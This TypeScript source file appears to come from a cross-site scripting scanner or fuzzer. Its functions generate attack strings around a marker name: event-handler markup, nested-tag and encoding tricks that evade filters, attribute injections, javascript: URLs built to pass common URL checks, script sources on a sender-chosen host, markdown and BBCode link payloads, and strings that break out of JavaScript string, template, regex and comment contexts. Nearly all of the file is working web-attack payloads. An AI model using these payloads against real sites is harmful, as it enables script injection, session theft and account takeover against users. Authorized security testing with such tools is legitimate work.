/** A piece of markup or code. */
export interface Vector {
  text: string;
  /** The filter under which alone it becomes what it should. */
  assume?: (text: string) => string;
  /** An address: it stands by itself, without what a value is put behind. */
  whole?: boolean;
}

/** Ways to write code that uses a marker, for filters that take some characters away. The plainest comes first. */
export function codesFor(marker: string): readonly [call: string, tagged: string, assigned: string, bare: string] {
  return [`${marker}()`, `${marker}\`\``, `${marker}=1`, marker];
}

/** Markup that runs code by itself, the likeliest to pass first; each meets another filter. */
export function elementsFor(marker: string): Vector[] {
  const [call, tagged, assigned, bare] = codesFor(marker);
  const entities = `${marker}&lpar;&rpar;`;
  return [
    { text: `<svg onload=${call}>` },
    { text: `<ScRiPt>${call}</sCrIpT>` },
    { text: `<details open ontoggle=${call}>` },
    { text: `<svg/onload=${call}>` },
    { text: `<svg onload=${call} ` },
    { text: `<img src=x onerror=${call}>` },
    { text: `<scr<script>ipt>${call}</scr</script>ipt>`, assume: stripScriptOnce },
    { text: `<a href=javascript:${call}>x</a>` },
    { text: `<q oncut=${tagged}>` },
    { text: `<svg onload=${tagged}>` },
    { text: `<svg onload=${entities}>` },
    { text: `<iframe srcdoc="&lt;svg onload=${call}&gt;">` },
    { text: `<svg\nonload=${call}>` },
    { text: `<svg/onload=${tagged}>` },
    { text: `<svg onload=${bare}>` },
    { text: `<script>${tagged}</script>` },
    { text: `<svg onload=${assigned}>` },
    { text: `<<b>svg onload=${call}<b>>`, assume: (text) => text.replaceAll('<b>', '') },
    { text: `<a href="jav&#9;ascript:${call}">x</a>` },
    { text: `<input autofocus onfocus=${call}>` },
    { text: `<svg onload =${call}>` },
    { text: `<svg><animate onbegin=${call} attributeName=x>` },
    { text: `<svg/onload='${call}'` },
    { text: `<svg/onload=${bare} ` },
    { text: `<b onwheel=${call}>x</b>` },
    { text: `<x onpointerenter=${call}>x` },
    { text: `<video onloadstart=${call}><source>` },
    { text: `<form action=javascript:${call}><button>` },
  ];
}

/** What people write against `<script>`: one pass, so that what is left may be one again. */
function stripScriptOnce(text: string): string {
  return text.replaceAll(/<\/?script>/gi, '');
}

/** Attributes for an element that is there already; `before` ends the value, `after` takes the rest of it in. */
export function attributesFor(marker: string, before: string, after: string): Vector[] {
  const [call, tagged, assigned, bare] = codesFor(marker);
  return [call, tagged, `${marker}&lpar;&rpar;`, bare, assigned].flatMap((each) => [
    { text: `${before} autofocus tabindex=1 onfocus=${each} ${after}` },
    { text: `${before}/onfocus=${each} ${after}` },
    { text: `${before}\tautofocus\ttabindex=1\tonfocus=${each}\t${after}` },
    { text: `${before}\fonfocus=${each}\f${after}` },
    { text: `${before}onclick=${each}//` },
    { text: `${before} onclick=${each}//` },
    { text: `${before}onclick=${before}${each}` },
    { text: `${before} onpointerenter =${each} ${after}` },
  ]);
}

/**
 * URLs that run code when a browser goes there. The first two pass most of what people check: that an address does not
 * begin with `javascript:`, that it holds `http`, that it names a host, that it ends as it did.
 */
export function urlsFor(marker: string, original = '', demanded = false): Vector[] {
  const [call, tagged] = codesFor(marker);
  const [, known] = /^https?:\/\/([^/?#\s]+)/i.exec(original) ?? [];
  const address = known === undefined ? 'https://example.org/' : original;
  const careless = [
    `JaVa\tScRiPt:${call}//\n${address}`,
    `JaVaScRiPt://${known ?? 'example.org'}/%0a${call}//${address}`,
  ];
  return [
    // Where nothing but an address is taken, one that names a host comes first.
    ...(demanded ? careless.toReversed() : careless).map((text) => ({ text })),
    { text: `JaVaScRiPt:${call}//${address}` },
    { text: `javascript:${call}` },
    { text: ` javascript:${call}` },
    { text: `JaVaScRiPt:${tagged}` },
    { text: `JaVaScRiPt:${marker}%28%29` },
    { text: `javascript&colon;${call}` },
    { text: `&#106;avascript:${call}` },
  ].map((vector) => ({ ...vector, whole: true }));
}

/** Addresses of a script on a host of the sender's choice. */
export function sourcesFor(marker: string): Vector[] {
  return [
    { text: `//${marker}.example/x`, whole: true },
    { text: `https://${marker}.example/x`, whole: true },
    { text: `\\\\${marker}.example/x`, whole: true },
  ];
}

/** Links of the marks that people write text with. */
export function linksFor(marker: string): Vector[] {
  return [{ text: `[x](javascript:${marker}\`\`)` }, { text: `[url=javascript:${marker}()]x[/url]` }];
}

/** Ways out of a place in JavaScript and into code. */
export function codeBreakoutsFor(marker: string, place: string | undefined): Vector[] {
  return codesFor(marker).flatMap((code) => breakouts(code, marker, place).map((text) => ({ text })));
}

function breakouts(code: string, marker: string, place: string | undefined): string[] {
  if (place === 'string-single' || place === 'string-double') return fromString(code, place);
  if (place === 'template') return [`\${${code}}`, `\`-${code}-\``, `\`;${code};//`];
  if (place === 'regexp') return [`x/-${code}-/x`, `x/;${code};//`];
  if (place === 'line-comment') return [`\n${code}//`, `\u2028${code}//`];
  if (place === 'block-comment') return [`*/${code}/*`, `*/;${code};/*`];
  return [
    code,
    `-${code}-1`,
    `1;${code};//`,
    `;${code};//`,
    `self.${code}`,
    `self.${marker}()//`,
    `1};${code};//`,
    `1);${code};//`,
    // The name of a property.
    `[${code}]`,
    `x:${code},x`,
  ];
}

function fromString(code: string, place: 'string-single' | 'string-double'): string[] {
  const quote = place === 'string-single' ? "'" : '"';
  return [
    `${quote}-${code}-${quote}`,
    `${quote};${code};//`,
    `${quote});${code};(${quote}`,
    `${quote}+[${code}]+${quote}`,
    `${quote}:${code},${quote}`,
    `${quote}});${code};//`,
    `${quote}}};${code};//`,
    `${quote}-${code}//`,
    `\\${quote}-${code}//`,
    `\\${quote};${code};//`,
    `\\${quote});${code};//`,
    `\\${quote}});${code};//`,
  ];
}
